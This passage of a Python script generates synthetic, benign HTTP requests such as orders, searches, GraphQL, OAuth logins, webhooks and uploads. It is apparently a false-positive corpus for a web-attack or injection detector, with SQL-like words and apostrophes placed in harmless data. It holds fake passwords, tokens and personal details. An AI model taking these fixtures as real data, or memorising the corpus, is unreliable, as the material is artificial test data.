a couple of centimetres of room so that bedding can be tucked in.

Trial: every mattress comes with a 100-night trial. If it is not right, we collect it for free and
refund you in full; returned mattresses are donated to charity or recycled, never resold.
Whatever you choose, turn or rotate it every three months for the first year, then twice a year.
""",
]

# HTML as rich-text editors (TinyMCE, Quill, CKEditor) send it: markup without active content.
RICH_TEXT = [
    '<p>Hi team,</p><p>The <strong>oak table</strong> arrived with a scratch on the top. Photos attached.</p><p>Thanks,<br>Aoife</p>',
    '<h2>Delivery information</h2><ul><li>Free delivery over &euro;50</li><li>Next-day delivery in Dublin &amp; Cork</li></ul>',
    '<p>See our <a href="https://shop.example/returns" target="_blank" rel="noopener noreferrer">returns policy</a> for details.</p>',
    '<p><img src="https://cdn.shop.example/img/banners/summer-sale.webp" alt="Summer sale: up to 40% off" width="1200" height="400"></p>',
    '<blockquote><p>&ldquo;Best chair I have ever owned.&rdquo; &mdash; Liam, Galway</p></blockquote>',
    '<table><thead><tr><th>Size</th><th>Chest (cm)</th></tr></thead><tbody><tr><td>M</td><td>96-101</td></tr><tr><td>L</td><td>102-107</td></tr></tbody></table>',
    '<p style="text-align: center;"><span style="color: #e11d48; font-size: 18px;">Limited edition</span></p>',
    '<ol><li>Select your size</li><li>Add to cart</li><li>Check out &ndash; that&#39;s it!</li></ol>',
    '<p>Questions? <a href="mailto:help@shop.example?subject=Order%20question">E-mail us</a> or call <a href="tel:+35315550100">+353 1 555 0100</a>.</p>',
    '<figure><img src="/media/uploads/2024/05/chair-detail.jpg" alt="Detail of the joinery"><figcaption>Hand-cut mortise and tenon joints</figcaption></figure>',
    '<p>Use code <code>SPRING-25</code> at checkout. Offer ends <time datetime="2024-05-31">31 May</time>.</p>',
    '<div class="note"><p><em>Note:</em> colours may vary slightly from the photos.</p></div>',
    '<p>Video guide:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Assembly guide" frameborder="0" allowfullscreen></iframe>',
    '<p>Drop us a line if you need help choosing; we&#8217;re happy to select a finish with you.</p>',
]

# Message templates customers write in a template language on purpose (Handlebars, Liquid).
TEMPLATES = [
    "Hi {{first_name}}, your order {{order.number}} has shipped! Track it here: {{tracking_url}}",
    "{% if customer.first_name %}Hello {{ customer.first_name }}{% else %}Hello there{% endif %}, thanks for shopping with us.",
    "Your total is {{ order.total_price | money }}. {% for item in order.line_items %}{{ item.quantity }} x {{ item.title }}\n{% endfor %}",
    "Dear {{customer.name}},\n\nYour appointment is on {{date appointment.start \"dddd, MMMM D\"}} at {{appointment.time}}.",
    "{{#if vip}}As a VIP you get free shipping.{{else}}Free shipping over {{threshold}}.{{/if}}",
    "Hi {{ contact.FIRSTNAME | default: 'there' }}, we miss you! Here's 10% off: {{ params.coupon }}",
    "Reminder: your subscription renews on {{renewal_date}}. Manage it at {{account_url}}.",
    "{{#each items}}- {{this.name}} ({{this.qty}})\n{{/each}}",
]

# Build and deployment settings a CI/CD or hosting API stores: commands and paths on purpose.
DEVOPS = [
    {"build_command": "npm ci && npm run build", "publish_dir": "dist", "node_version": "20"},
    {"build_command": "pip install -r requirements.txt && python manage.py collectstatic --noinput", "start_command": "gunicorn app.wsgi:application --bind 0.0.0.0:$PORT"},
    {"schedule": "30 7 * * 1-5", "timezone": "Europe/Dublin", "job": "send-daily-digest"},
    {"image": "registry.example.com/shop/api:2024.05.14-3f9c2ab", "command": ["./bin/server", "--port", "8080"], "env": {"LOG_LEVEL": "info", "DATABASE_URL": "${secrets.DATABASE_URL}"}},
    {"branch": "feature/select-menu-redesign", "commit_message": "Drop unused union type from OrderStatus; select default in dropdown", "sha": "3f9c2ab7e1d04c5b9a0e6f2d8c7b1a9e4d3c2b1a"},
    {"healthcheck": {"path": "/healthz", "interval": "10s", "timeout": "2s"}, "working_dir": "/srv/app", "volumes": ["/srv/app/data:/data"]},
    {"pre_deploy": "bundle exec rails db:migrate", "post_deploy": "curl -fsS https://hc-ping.com/8e1c5b2a-4f3d-4a7b-9c2e-1d0f6b3a5e7c"},
    {"redirects": [{"from": "/blog/*", "to": "https://blog.shop.example/:splat", "status": 301}, {"from": "/old-shop", "to": "/shop", "status": 302}]},
    {"ignore": ["node_modules/", "*.log", ".env", "coverage/"], "cache_paths": ["~/.npm", ".next/cache"]},
    {"script": "if [ \"$CI_BRANCH\" = \"main\" ]; then make deploy; else make test; fi"},
]

WEBSITES = ["https://www.linkedin.com/in/jane-doe-4b2a1", "https://github.com/octocat", "https://acme-corp.com/about?ref=profile",
            "https://en.wikipedia.org/wiki/SQL_injection", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
            "https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0",
            "https://maps.google.com/?q=53.3498,-6.2603", "https://shop.example/products/oak-chair?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
            "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX", "https://cdn.shop.example/img/products/1042/main@2x.webp",
            "http://example.com/", "https://api.partner.example/v2/callbacks/orders", "https://calendar.app.example/event?start=2024-06-01T09:00:00Z&end=2024-06-01T10:00:00Z"]


def tiny_png(w, h, rgb):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def person():
    f, l = RNG.choice(FIRST), RNG.choice(LAST)
    local = (f[0] + l).lower().replace("'", "").replace(" ", "").encode("ascii", "ignore").decode() or "user"
    return f, l, f"{local}@{RNG.choice(DOMAINS)}"


def iso(day=None):
    d = day or RNG.randrange(1, 28)
    return f"2024-{RNG.randrange(1, 13):02d}-{d:02d}T{RNG.randrange(24):02d}:{RNG.randrange(60):02d}:{RNG.randrange(60):02d}Z"


def benign_cases():
    """(kind, request, note) triples."""
    out = []
    add = lambda kind, req, note: out.append((kind, req, note))

    # --- CRUD on users, orders, payments, products -----------------------------------------
    for i in range(75):
        f, l, email = person()
        uid, oid = RNG.randrange(1000, 99999), uuid()
        city, cc, zipc = RNG.choice(CITIES)
        k = i % 15
        if k == 0:
            add("crud", request("GET", f"/api/v1/users/{uid}", base_headers()), "fetch a user")
        elif k == 1:
            add("crud", json_req("POST", "/api/v1/users", {"email": email, "first_name": f, "last_name": l, "phone": "+44 20 7946 0958",
                                                            "marketing_opt_in": False, "locale": "en-IE"}), "create a user")
        elif k == 2:
            add("crud", json_req("PATCH", f"/api/v1/orders/{oid}", {"status": "cancelled", "cancel_reason": "customer_request",
                                                                      "note": f"Customer {f} {l} asked to cancel by phone"}), "cancel an order")
        elif k == 3:
            add("crud", request("DELETE", f"/api/v1/carts/{uuid()}/items/{quote(RNG.choice(SKUS), safe='')}", base_headers()), "remove a cart item")
        elif k == 4:
            add("crud", json_req("POST", "/api/v1/payments", {"amount": RNG.randrange(100, 99999), "currency": RNG.choice(["EUR", "USD", "GBP"]),
                                                               "source": "tok_" + hexid(24), "description": f"Order {oid}", "capture": True,
                                                               "metadata": {"order_id": oid, "channel": "web"}},
                                 headers=base_headers() + [["Idempotency-Key", uuid()]]), "create a payment")
        elif k == 5:
            add("crud", json_req("PUT", f"/api/v1/products/{uid}", {"name": "Oak dining chair", "sku": RNG.choice(SKUS), "price": {"amount": "149.00", "currency": "EUR"},
                                                                     "dimensions": {"w_cm": 45, "d_cm": 52, "h_cm": 89.5}, "tags": ["furniture", "dining", "oak"],
                                                                     "description": "Solid oak, oiled finish. Seat height 46 cm. Assembly required (10 min)."}), "replace a product")
        elif k == 6:
            add("crud", json_req("POST", f"/api/v1/users/{uid}/addresses", {"line1": RNG.choice(STREETS), "city": city, "postal_code": zipc, "country": cc,
                                                                             "company": RNG.choice(COMPANIES), "default": True}), "add an address")
        elif k == 7:
            add("crud", request("GET", f"/api/v1/orders/{oid}?expand=items,payments,shipments", base_headers()), "fetch an order with expansions")
        elif k == 8:
            add("crud", json_req("POST", f"/api/v1/orders/{oid}/refunds", {"amount": 2500, "reason": "damaged", "items": [{"sku": RNG.choice(SKUS), "qty": 1}],
                                                                            "comment": "Box arrived crushed; customer sent photos."}), "refund part of an order")
        elif k == 9:
            add("crud", request("HEAD", f"/api/v1/invoices/INV-2024-{uid:06d}.pdf", base_headers(accept="application/pdf")), "check an invoice exists")
        elif k == 10:
            add("crud", json_req("POST", "/api/v1/orders", {"customer_id": uid, "currency": "EUR", "coupon_code": RNG.choice(["SUMMER-25", "WELCOME10", "VIP_2024"]),
                                                             "items": [{"sku": RNG.choice(SKUS), "qty": RNG.randrange(1, 4), "unit_price": "19.99"} for _ in range(RNG.randrange(1, 4))],
                                                             "shipping": {"method": "express", "address": {"name": f"{f} {l}", "line1": RNG.choice(STREETS), "city": city, "postal_code": zipc, "country": cc}},
                                                             "gift_message": "Happy birthday! Love, Mum & Dad xx"}), "place an order")
        elif k == 11:
            add("crud", request("GET", f"/api/v1/users/{uid}/orders?status={RNG.choice(STATUSES)}&page={RNG.randrange(1, 9)}&per_page=20&sort=-placed_at", base_headers()), "list a user's orders")
        elif k == 12:
            add("crud", json_req("PUT", "/api/v1/users/me/preferences", {"notifications": {"email": True, "sms": False, "push": {"order_updates": True, "promotions": False}},
                                                                           "theme": "system", "language": RNG.choice(["en-GB", "fr-FR", "de-DE", "ja-JP"]), "currency": "EUR"}), "update preferences")
        elif k == 13:
            add("crud", json_req("POST", "/api/v1/subscriptions", {"plan": RNG.choice(["pro-annual", "team-monthly", "starter"]), "seats": RNG.randrange(1, 50), "trial": True,
                                                                    "billing_email": email, "po_number": f"PO-{uid}/2024"}), "start a subscription")
        else:
            add("crud", json_req("PATCH", "/api/v1/products", [{"id": uid + j, "stock": RNG.randrange(0, 500), "price": round(RNG.uniform(1, 300), 2)} for j in range(5)]), "bulk stock update")

    # --- search, filters, pagination, sorting, JSON:API, OData, Elasticsearch DSL -------------
    searches = [
        "/api/v1/products?q=running+shoes&category=sports&price_min=20&price_max=120&sort=-created_at&page=3&per_page=50",
        "/api/v1/orders?status=shipped&status=delivered&created_after=2024-01-01T00:00:00Z&sort=-total,created_at&limit=25&offset=75",
        "/api/v1/articles?filter[status]=published&filter[author]=42&include=author,comments&fields[articles]=title,body,created_at&page[number]=2&page[size]=20",
        "/api/v1/users?sort=last_name,-created_at&fields=id,email,last_name&page[cursor]=eyJpZCI6MTIzNH0%3D",
        "/odata/Customers?$filter=LastName%20eq%20'O''Brien'%20and%20Age%20gt%2030&$orderby=CreatedAt%20desc&$top=20&$select=Id,FirstName,LastName",
        "/odata/Products?$filter=contains(Name,'select')%20or%20Price%20lt%2010.5&$expand=Category&$count=true",
        "/odata/Orders?$filter=Status%20eq%20'Shipped'%20and%20ShippedDate%20ge%202024-01-01&$orderby=Total%20desc&$skip=40&$top=20",
        "/odata/People('russellwhyte')/Trips?$select=Name,Budget&$filter=Budget%20ge%203000",
        "/api/v1/search?q=drop+earrings&sort=relevance&in_stock=true",
        "/api/v1/search?q=union+jack+flag&category=home",
        "/api/v1/search?q=script+font+wedding+invitation",
        "/api/v1/search?q=sleep+mask+silk",
        "/api/v1/search?q=O%27Reilly+learning+SQL",
        "/api/v1/search?q=1%2F2+inch+drill+bit",
        "/api/v1/search?q=C%2B%2B+primer+5th+edition",
        "/api/v1/search?q=100%25+cotton+t-shirt",
        "/api/v1/search?q=select+comfort+mattress+queen",
        "/api/v1/search?q=delete+key+replacement+macbook",
        "/api/v1/search?q=rock+%26+roll+vinyl",
        "/api/v1/search?q=%22exact+phrase%22+-excluded",
        "/api/v1/search?q=where+to+buy+table+and+chairs",
        "/api/v1/products?tags[]=outdoor&tags[]=garden&tags[]=bbq&sort=price",
        "/api/v1/events?from=2024-06-01T00:00:00%2B02:00&to=2024-06-30T23:59:59.999%2B02:00&tz=Europe/Berlin",
        "/api/v1/stores/nearby?lat=53.3498&lng=-6.2603&radius_km=5&open_now=true",
        "/api/v1/products?ids=1042,1043,1044,2203&fields=id,name,price",
        "/api/v1/audit-logs?actor=admin%40acme-corp.com&action=user.delete&since=2024-03-01",
        "/api/v1/reports/sales?group_by=region,month&metrics=revenue,orders&order_by=revenue&direction=desc",
        "/api/v1/tickets?assignee=me&status=open,pending&q=refund+not+received&sort=-updated_at",
        "/api/v1/products?price[gte]=10&price[lte]=50&rating[gte]=4",
        "/api/v1/logs?level=error&message=timeout%20while%20executing%20query&limit=100",
        "/api/v1/products?sort=-rating,price&page=1&per_page=24&brand=L%27Or%C3%A9al",
        "/api/v1/orders?fields=id,total,status&expand=customer&q=O%27Brien",
        "/api/v1/customers?filter=status%3Aactive%20AND%20country%3AIE&sort=name%3Aasc",
        "/api/v1/jobs?state=failed&state=retrying&queue=emails&order=desc&before=2024-05-14T08%3A00%3A00Z",
        "/api/v1/catalog?category=home%2Fkitchen%2Fcookware&min_rating=4&sort=best_selling",
        "/api/v1/search?q=drop-leaf+table&color=white&color=natural",
        "/api/v1/search?q=exec+chair+lumbar+support",
        "/api/v1/search?q=alert+bracelet+medical",
        "/api/v1/search?q=system+of+a+down+t-shirt",
        "/api/v1/search?q=shell+jacket+waterproof",
        "/api/v1/kb/articles?q=how+to+delete+an+order+and+select+a+new+delivery+date",
        "/api/v1/products?q=&category=&page=1",
    ]
    for s in searches:
        add("search", request("GET", s, base_headers()), "search, filter, sort or paginate")
    es = [
        {"query": {"bool": {"must": [{"match": {"title": "select union drop"}}], "filter": [{"range": {"created_at": {"gte": "now-7d/d"}}}, {"term": {"status": "published"}}]}},
         "sort": [{"created_at": "desc"}], "from": 0, "size": 20},
        {"query": {"multi_match": {"query": "O'Brien", "fields": ["first_name", "last_name^2"]}}, "aggs": {"by_city": {"terms": {"field": "city.keyword", "size": 10}}}},
        {"query": {"query_string": {"query": "(new york) AND (pizza OR pasta) -closed", "default_field": "description"}}, "highlight": {"fields": {"description": {}}}},
        {"size": 0, "aggs": {"sales_over_time": {"date_histogram": {"field": "date", "calendar_interval": "month"}, "aggs": {"revenue": {"sum": {"field": "total"}}}}}},
        {"query": {"bool": {"should": [{"wildcard": {"sku": "CHAIR-*"}}, {"prefix": {"name": "oak"}}], "minimum_should_match": 1}}},
        {"query": {"script_score": {"query": {"match_all": {}}, "script": {"source": "doc['popularity'].value * params.boost", "params": {"boost": 1.5}}}}},
    ]
    for q in es:
        add("search", json_req("POST", "/api/v1/search/_search", q), "Elasticsearch-style query DSL")
    for q in [{"filter": {"and": [{"field": "status", "op": "in", "value": ["paid", "shipped"]}, {"field": "total", "op": ">=", "value": 100}]}, "sort": [{"field": "created_at", "dir": "desc"}], "page": {"size": 50, "cursor": None}},
              {"where": {"last_name": {"like": "O'%"}, "country": "IE"}, "order": "last_name ASC", "limit": 10},
              {"select": ["id", "email", "created_at"], "from": "customers", "where": {"status": "active"}, "order_by": "created_at"}]:
        add("search", json_req("POST", "/api/v1/customers/query", q), "structured filter body")

    # --- documented operator syntax ($gt, $eq ...) of some API frameworks ---------------------
    for path in ["/api/articles?filters[title][$contains]=hello&sort=publishedAt:desc&pagination[page]=1&pagination[pageSize]=10",
                 "/api/restaurants?filters[price][$gt]=10&filters[price][$lte]=40&populate=*",
                 "/api/users?filters[username][$eq]=john&fields[0]=username&fields[1]=email",
                 "/api/events?filters[$or][0][date][$eq]=2024-06-01&filters[$or][1][date][$eq]=2024-06-02"]:
        add("query-operators", request("GET", path, base_headers()), "Strapi REST filter syntax")
    for path in ["/parse/classes/GameScore?where=" + quote(json.dumps({"score": {"$gte": 1000, "$lte": 3000}})) + "&order=-score&limit=20",
                 "/parse/classes/Player?where=" + quote(json.dumps({"name": {"$in": ["Jonathan Walsh", "Dario Wunsch"]}}))]:
        add("query-operators", request("GET", path, base_headers()), "Parse REST where syntax")
    add("query-operators", json_req("POST", "/api/v1/leaderboard/query", {"filter": {"score": {"$gte": 100}, "season": {"$in": [2023, 2024]}}, "sort": {"score": -1}, "limit": 25}),
        "MongoDB-style filter on a leaderboard API")

    # --- GraphQL ------------------------------------------------------------------------------
    gql = [
        ("query GetOrders($first: Int!, $after: String) {\n  orders(first: $first, after: $after, orderBy: {field: CREATED_AT, direction: DESC}) {\n    edges { node { id total status customer { name email } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}", {"first": 20, "after": "Y3Vyc29yOjQw"}, "GetOrders"),
        ("mutation UpdateProfile($input: UpdateProfileInput!) {\n  updateProfile(input: $input) { user { id displayName bio } errors { field message } }\n}", {"input": {"displayName": "Siobhán O'Brien", "bio": "Coffee, code & cats. I select my words carefully."}}, "UpdateProfile"),
        ("query Product($id: ID!, $withReviews: Boolean = false) {\n  product(id: $id) { id name price { amount currency } reviews(first: 5) @include(if: $withReviews) { body rating } }\n}", {"id": "UHJvZHVjdDoxMDQy", "withReviews": True}, "Product"),
        ("mutation DeleteItem($id: ID!) { deleteCartItem(id: $id) { cart { id itemCount } } }", {"id": "Q2FydEl0ZW06OTk="}, "DeleteItem"),
        ("query Search($q: String!) { search(query: $q, first: 10) { ... on Product { id name } ... on Article { id title } } }", {"q": "ergonomic chairs under 200"}, "Search"),
        ("fragment UserParts on User { id name avatarUrl }\nquery Me { me { ...UserParts orders(last: 3) { id } } }", {}, "Me"),
        ("mutation CreateTicket($t: TicketInput!) { createTicket(input: $t) { id status } }", {"t": {"subject": "Can't delete my old address", "body": "When I click delete nothing happens; I have to select another default first?"}}, "CreateTicket"),
        ("query { __typename }", {}, None),
        ("subscription OnOrder($id: ID!) { orderUpdated(id: $id) { id status updatedAt } }", {"id": "T3JkZXI6NDQ="}, "OnOrder"),
        ("query Inventory($skus: [String!]!) { inventory(skus: $skus) { sku available warehouse { code city } } }", {"skus": ["SKU-1042", "SKU-2203-BLK"]}, "Inventory"),
    ]
    for i, (q, v, op) in enumerate(gql):
        doc = {"query": q, "variables": v}
        if op:
            doc["operationName"] = op
        add("graphql", json_req("POST", "/graphql", doc), "GraphQL document")
        if i < 5:
            add("graphql", request("GET", "/graphql?" + urlencode({"query": q, "variables": json.dumps(v)}), base_headers()), "GraphQL over GET")
    add("graphql", json_req("POST", "/graphql", [{"query": "query A { me { id } }"}, {"query": "query B { cart { itemCount } }"}]), "batched GraphQL")

    # --- auth: OAuth, login, tokens -------------------------------------------------------------
    passwords = ["correct horse battery staple", "Tr0ub4dor&3", "S3cure#Pass;2024", "hunter2hunter2", "P@ss'w0rd!", "my \"secret\" phrase 42",
                 "Ünïcødé-pässwörd", "<3kittens<3", "12345678aA!", "pa$$w0rd-with-dollars", "--NoSpacesAllowed--", "a=b&c=d;e",
                 "Summer2024!", "(Parenthesised)Pass9", "*StarsAndStripes*", "Zaq1@wsx", "~tilde~and`backtick`", "Ñandú-Pässe-77"]
    for i, pw in enumerate(passwords):
        f, l, email = person()
        if i % 3 == 0:
            add("auth", json_req("POST", "/api/v1/auth/login", {"email": email, "password": pw, "remember_me": True}, headers=base_headers(auth=False)), "JSON login")
        elif i % 3 == 1:
            add("auth", form_req("POST", "/oauth/token", [("grant_type", "password"), ("username", email), ("password", pw), ("client_id", "mobile-app"), ("scope", "openid profile offline_access")],
                                 headers=base_headers(auth=False)), "OAuth password grant")
        else:
            add("auth", json_req("POST", "/api/v1/auth/register", {"email": email, "password": pw, "password_confirmation": pw, "first_name": f, "last_name": l, "accept_terms": True},
                                 headers=base_headers(auth=False)), "sign-up")
    for i in range(18):
        k = i % 9
        if k == 6:
            add("auth", json_req("POST", "/api/v1/auth/mfa/verify", {"challenge_id": uuid(), "code": f"{RNG.randrange(10**6):06d}", "remember_device": True}), "MFA code")
        elif k == 7:
            add("auth", json_req("POST", "/api/v1/auth/password/reset", {"email": person()[2]}, headers=base_headers(auth=False)), "password reset request")
        elif k == 8:
            add("auth", request("POST", "/api/v1/auth/logout", base_headers() + [["Cookie", f"refresh_token={b64url(RNG.randbytes(40))}; Path=/"]]), "logout")
        elif k == 0:
            add("auth", form_req("POST", "/oauth/token", [("grant_type", "authorization_code"), ("code", b64url(RNG.randbytes(24))), ("redirect_uri", "https://app.shop.example/callback"),
                                                           ("client_id", "web-spa"), ("code_verifier", b64url(RNG.randbytes(32)))], headers=base_headers(auth=False)), "OAuth code exchange with PKCE")
        elif k == 1:
            add("auth", form_req("POST", "/oauth/token", [("grant_type", "refresh_token"), ("refresh_token", "rt_" + b64url(RNG.randbytes(30))), ("client_id", "mobile-app")],
                                 headers=base_headers(auth=False)), "OAuth refresh")
        elif k == 2:
            add("auth", form_req("POST", "/oauth/token", [("grant_type", "client_credentials"), ("scope", "read:orders write:orders")],
                                 headers=base_headers(auth=False) + [["Authorization", "Basic " + base64.b64encode(b"svc-reporting:" + hexid(32).encode()).decode()]]), "OAuth client credentials")
        elif k == 3:
            add("auth", request("GET", f"/auth/callback?code={b64url(RNG.randbytes(18))}&state={hexid(16)}&scope=openid%20email%20profile&authuser=0&prompt=consent",
                                base_headers(auth=False, accept="text/html")), "OIDC redirect back")
        elif k == 4:
            add("auth", request("GET", "/oauth/authorize?response_type=code&client_id=web-spa&redirect_uri=https%3A%2F%2Fapp.shop.example%2Fcallback&scope=openid%20profile%20orders%3Aread&state="
                                + hexid(16) + "&code_challenge=" + b64url(RNG.randbytes(32)) + "&code_challenge_method=S256", base_headers(auth=False, accept="text/html")), "OAuth authorize")
        else:
            add("auth", json_req("POST", "/api/v1/auth/token/introspect", {"token": jwt("usr_" + hexid(12)), "token_type_hint": "access_token"}), "token introspection")

    # --- webhooks -----------------------------------------------------------------------------
    for i in range(18):
        k = i % 6
        sig = hexid(64)
        if k == 0:
            add("webhook", json_req("POST", "/webhooks/stripe", {"id": "evt_" + hexid(24), "object": "event", "type": "payment_intent.succeeded", "created": 1716200000 + i,
                                                                    "data": {"object": {"id": "pi_" + hexid(24), "amount": 4999, "currency": "eur", "status": "succeeded",
                                                                                        "metadata": {"order_id": uuid()}, "description": "Order from O'Brien & Co."}}},
                                    headers=[["Host", HOST], ["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Stripe-Signature", f"t=1716200000,v1={sig}"]]), "Stripe event")
        elif k == 1:
            add("webhook", json_req("POST", "/webhooks/github", {"ref": "refs/heads/main", "before": hexid(40), "after": hexid(40),
                                                                    "commits": [{"id": hexid(40), "message": "fix: drop legacy orders table after migration\n\nAlso select the right index for the union query in reports.", "author": {"name": "Jürgen Müller", "email": "jm@acme-corp.com"}},
                                                                                {"id": hexid(40), "message": "chore(deps): bump lodash from 4.17.20 to 4.17.21", "author": {"name": "dependabot[bot]", "email": "49699333+dependabot[bot]@users.noreply.github.com"}}],
                                                                    "repository": {"full_name": "acme/web", "html_url": "https://github.com/acme/web"}},
                                    headers=[["Host", HOST], ["User-Agent", "GitHub-Hookshot/7d4e2c1"], ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", uuid()], ["X-Hub-Signature-256", "sha256=" + sig]]), "GitHub push event")
        elif k == 2:
            add("webhook", json_req("POST", "/webhooks/slack", {"token": hexid(24), "team_id": "T061EG9R6", "event": {"type": "message", "user": "U0G9QF9C6", "text": "Can someone <@U024BE7LH> check why `SELECT` on the replica is slow? :thinking_face:",
                                                                                                                    "ts": "1716200000.000200", "channel": "C2147483705"}, "type": "event_callback", "event_id": "Ev" + hexid(9).upper()},
                                    headers=[["Host", HOST], ["User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"], ["X-Slack-Signature", "v0=" + sig], ["X-Slack-Request-Timestamp", "1716200000"]]), "Slack event")
        elif k == 3:
            add("webhook", json_req("POST", "/webhooks/shopify/orders-create", {"id": 820982911946154500 + i, "email": "jon@example.com", "total_price": "199.00", "currency": "USD",
                                                                                  "shipping_address": {"name": "Jon D'Angelo", "address1": "123 Amoebobacterium St", "city": "Ottawa", "zip": "K2P 1L4"},
                                                                                  "line_items": [{"title": "IPod Nano - 8GB", "quantity": 1, "price": "199.00"}], "note": "Please leave at the back door & ring twice"},
                                    headers=[["Host", HOST], ["User-Agent", "Shopify-Captain-Hook"], ["X-Shopify-Topic", "orders/create"], ["X-Shopify-Hmac-Sha256", base64.b64encode(bytes.fromhex(sig)).decode()]]), "Shopify order webhook")
        elif k == 4:
            add("webhook", form_req("POST", "/webhooks/twilio/sms", [("MessageSid", "SM" + hexid(32)), ("From", "+353871234567"), ("To", "+14155550100"), ("Body", "STOP? no wait, select option 2 please & thanks :)"), ("NumMedia", "0")],
                                    headers=[["Host", HOST], ["User-Agent", "TwilioProxy/1.1"], ["X-Twilio-Signature", base64.b64encode(RNG.randbytes(20)).decode()]]), "Twilio SMS webhook (form)")
        else:
            add("webhook", json_req("POST", "/webhooks/sendgrid", [{"email": "ana@example.org", "event": "bounce", "reason": "550 5.1.1 The email account that you tried to reach does not exist.", "timestamp": 1716200000, "sg_event_id": b64url(RNG.randbytes(16))},
                                                                   {"email": "bob@example.org", "event": "open", "useragent": "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)", "timestamp": 1716200050}],
                                    headers=[["Host", HOST], ["User-Agent", "SendGrid Event API"]]), "SendGrid event batch")

    # --- uploads of ordinary files ------------------------------------------------------------
    png = tiny_png(4, 4, (200, 30, 60))
    files = [
        ("orders.csv", "text/csv", "id,customer,total,notes\n1001,O'Brien,49.99,\"leave at door; ring bell\"\n1002,\"D'Angelo, Marco\",120.00,select gift wrap\n1003,Müller,15.50,\n"),
        ("notes.txt", "text/plain", "Meeting notes 2024-05-14\n- drop the legacy export\n- union members get 10% (confirm with HR)\n- update the select list on checkout\n"),
        ("config.json", "application/json", json.dumps({"theme": "dark", "currency": "EUR", "features": {"wishlist": True}}, indent=2)),
        ("README.md", "text/markdown", "# Shop theme\n\nRun `npm install` then `npm run build`.\n\n- [x] dark mode\n- [ ] RTL support\n"),
        ("icon.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><circle cx="12" cy="12" r="10" fill="#e11d48"/><path d="M8 12h8" stroke="#fff" stroke-width="2"/></svg>'),
        ("contacts.vcf", "text/vcard", "BEGIN:VCARD\nVERSION:3.0\nFN:Siobhán O'Brien\nEMAIL:siobhan@example.org\nTEL:+353 1 555 0100\nEND:VCARD\n"),
        ("invoice-2024-05.xml", "application/xml", '<?xml version="1.0" encoding="UTF-8"?>\n<Invoice><ID>INV-2024-0517</ID><Buyer>Procter &amp; Gamble</Buyer><Total currency="EUR">1250.00</Total></Invoice>'),
        ("events.ics", "text/calendar", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:Quarterly review\nDTSTART:20240601T090000Z\nDTEND:20240601T100000Z\nEND:VEVENT\nEND:VCALENDAR\n"),
        ("data.tsv", "text/tab-separated-values", "sku\tname\tstock\nSKU-1042\tOak chair\t14\nMUG-11OZ\tMug \"Classic\"\t230\n"),
    ]
    for i, (name, ctype, content) in enumerate(files):
        add("upload", multipart_req("/api/v1/uploads", [("folder", "imports"), ("description", f"Upload {i + 1} of {len(files)}"), ("file", name, ctype, content)]), f"multipart upload of {name}")
    for name in ["IMG_20240514_093211.jpg", "Screenshot 2024-05-14 at 09.32.11.png", "résumé (final) v2.pdf", "scan_0001.pdf", "photo #3.heic"]:
        add("upload", multipart_req("/api/v1/uploads", [("file", name, "text/plain", "placeholder content of an ordinary document\n")]), "upload with an everyday file name")
    data_url = "data:image/png;base64," + base64.b64encode(png).decode()
    for i in range(6):
        img = tiny_png(2 + i, 3 + i, (i * 40, 120, 255 - i * 30))
        add("upload", json_req("POST", "/api/v1/users/me/avatar", {"image": base64.b64encode(img).decode(), "content_type": "image/png", "filename": f"avatar-{i}.png"}), "base64 image in JSON")
    add("upload", json_req("PATCH", "/api/v1/users/me", {"avatar": data_url}), "data: URL of a PNG")
    add("upload", json_req("POST", "/api/v1/documents", {"name": "contract.pdf", "content_base64": base64.b64encode(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" * 4).decode()}), "base64 PDF in JSON")

    # --- names, addresses, companies ----------------------------------------------------------
    for i in range(60):
        f, l, email = person()
        city, cc, zipc = CITIES[i % len(CITIES)]
        k = i % 5
        if k == 0:
            add("names", json_req("PATCH", "/api/v1/users/me", {"first_name": f, "last_name": l, "display_name": f"{f} {l}", "company": COMPANIES[i % len(COMPANIES)]}), "names with apostrophes and accents")
        elif k == 1:
            add("names", json_req("POST", "/api/v1/checkout/shipping", {"recipient": f"{f} {l}", "line1": STREETS[i % len(STREETS)], "city": city, "postal_code": zipc, "country": cc,
                                                                          "instructions": "Ring twice; if no answer, leave with no. 14 (blue door)."}), "shipping address")
        elif k == 2:
            add("names", request("GET", "/api/v2/customers?" + urlencode({"last_name": l, "company": COMPANIES[i % len(COMPANIES)]}), base_headers()), "customer lookup by name")
        elif k == 3:
            add("names", form_req("POST", "/api/v1/newsletter/subscribe", [("name", f"{f} {l}"), ("email", email), ("company", COMPANIES[i % len(COMPANIES)])]), "newsletter form")
        else:
            add("names", xml_req("/api/v1/partners/contacts", f'<?xml version="1.0" encoding="UTF-8"?>\n<contact><name>{xml_escape(f + " " + l)}</name><company>{xml_escape(COMPANIES[i % len(COMPANIES)])}</company><street>{xml_escape(STREETS[i % len(STREETS)])}</street><city>{xml_escape(city)}</city></contact>'), "XML contact record")

    # --- prose: tickets, reviews, chat ---------------------------------------------------------
    for i, text in enumerate(PROSE):
        f, l, email = person()
        k = i % 4
        if k == 0:
